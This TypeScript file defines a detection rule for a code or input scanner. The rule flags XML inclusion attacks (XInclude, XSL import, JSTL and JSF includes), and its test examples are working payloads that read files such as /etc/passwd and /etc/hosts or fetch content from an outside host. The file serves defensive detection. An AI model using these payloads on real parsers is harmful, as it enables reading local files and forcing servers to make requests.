import { referenceKindOf } from '../../grammars/xml/reference.ts';
import { type XmlElement, xmlGrammar } from '../../grammars/xml/xml.ts';
import { confidence } from '../../placement/confidence.ts';
import type { ValueRule } from '../rule.ts';

/** `<xi:include href="file:///etc/passwd"/>`: an inclusion that needs no document type. */
export const include: ValueRule = {
  id: 'xxe.include',
  cwe: 'CWE-611',
  severity: 'critical',
  score: confidence.certain,
  message: 'has the XML parser include a file or a page of another host',
  trigger: {
    literals: [
      [':include', ':import', 'xinclude', 'xsl/transform'],
      ['href', 'url', 'src'],
    ],
  },
  judge: (subject) => {
    const { text } = subject;
    let isDefault: boolean | undefined;
    let base = -1;
    let nextBase = text.indexOf(baseName);
    for (const one of subject.tokens(xmlGrammar).elements) {
      if (one.name !== 'include' && one.name !== 'import') continue;
      // Without a prefix the namespace is a default one.
      if (one.prefix === '') {
        isDefault ??= defaultNamespace.test(text);
        if (!isDefault) continue;
      }
      // What relative references start from (XML Base, 3): the last one in front.
      for (; nextBase >= 0 && nextBase < one.end; nextBase = text.indexOf(baseName, nextBase + 1)) {
        base = nextBase;
      }
      const score = scoreOf(text, one, base);
      if (score > 0) return { start: one.start, end: one.end, score };
    }
    return undefined;
  },
  examples: [
    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></r>',
    '<xi:include href="http://203.0.113.5/x.xml"/>',
    '<r xml:base="file:///etc/"><xi:include parse="text" href="hosts"/></r>',
    '<r xml:base="http://203.0.113.5/"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x.xml"/></r>',
    '<book xmlns="http://docbook.org/ns/docbook" xml:base="https://docs.example.org/"><xi:include href="x.xml"/></book>',
    '<r><include xmlns="http://www.w3.org/2001/XInclude" href="file:///srv/notes.txt"/></r>',
    "<r xmlns = 'http://www.w3.org/2001/XInclude'><include parse='text' href='/etc/hosts'/></r>",
    '<count><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="file:///"/></count>',
    '<xsl:import href="http://203.0.113.5/x.xsl"/>',
    '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform"><import href="file:///srv/a.xsl"/></stylesheet>',
    '<c:import url="http://files.example.net/menu.jsp"/>',
    '<ui:include src="http://files.example.net/menu.xhtml"/>',
  ],
  lookalikes: [
    '<xi:include href="chapter-2.xml" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
    '<include xmlns="http://www.w3.org/2001/XInclude" href="chapter-2.xml"/>',
    '<book xml:base="chapters/"><xi:include href="chapter-2.xml"/></book>',
    '<include href="/etc/nginx/mime.types"/> says the page on xmlns="http://example.org/pages"',
    '<xsl:import href="common.xsl"/>',
    '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform"><import href="common.xsl"/></stylesheet>',
    '<xop:Include href="cid:photo@example.org"/>',
    '<c:import url="footer.html"/>',
    '<ui:include src="menu.xhtml"/>',
  ],
};

function scoreOf(text: string, element: XmlElement, base: number): number {
  const uri = hrefValue.exec(text.slice(element.start, element.end))?.[1];
  if (uri === undefined) return 0;
  const own = referenceKindOf(uri);
  const kind = own === 'relative' ? referenceKindOf(baseAt(text, base)) : own;
  if (kind === 'local') return confidence.certain;
  // Style sheets are shared over the network more often than documents, and books have a base.
  if (kind === 'network')
    return element.prefix === 'xsl' || own === 'relative' ? confidence.likely : confidence.strong;
  return 0;
}

function baseAt(text: string, at: number): string {
  return at < 0 ? '' : (baseValue.exec(text.slice(at, at + baseCharsMax))?.[1] ?? '');
}

const baseName = 'xml:base';
const baseCharsMax = 240;
const baseValue = /^xml:base\s{0,8}=\s{0,8}["']([^"'<>]{1,200})/;

/** XInclude 1.1, 3.1; XSLT 1.0, 2.6. */
const defaultNamespace =
  /xmlns\s{0,8}=\s{0,8}["']http:\/\/www\.w3\.org\/(?:2001\/XInclude|1999\/XSL\/Transform)["']/i;
const hrefValue = /\s(?:href|url|src)\s{0,8}=\s{0,8}["']?([^"'>]{1,200})/i;
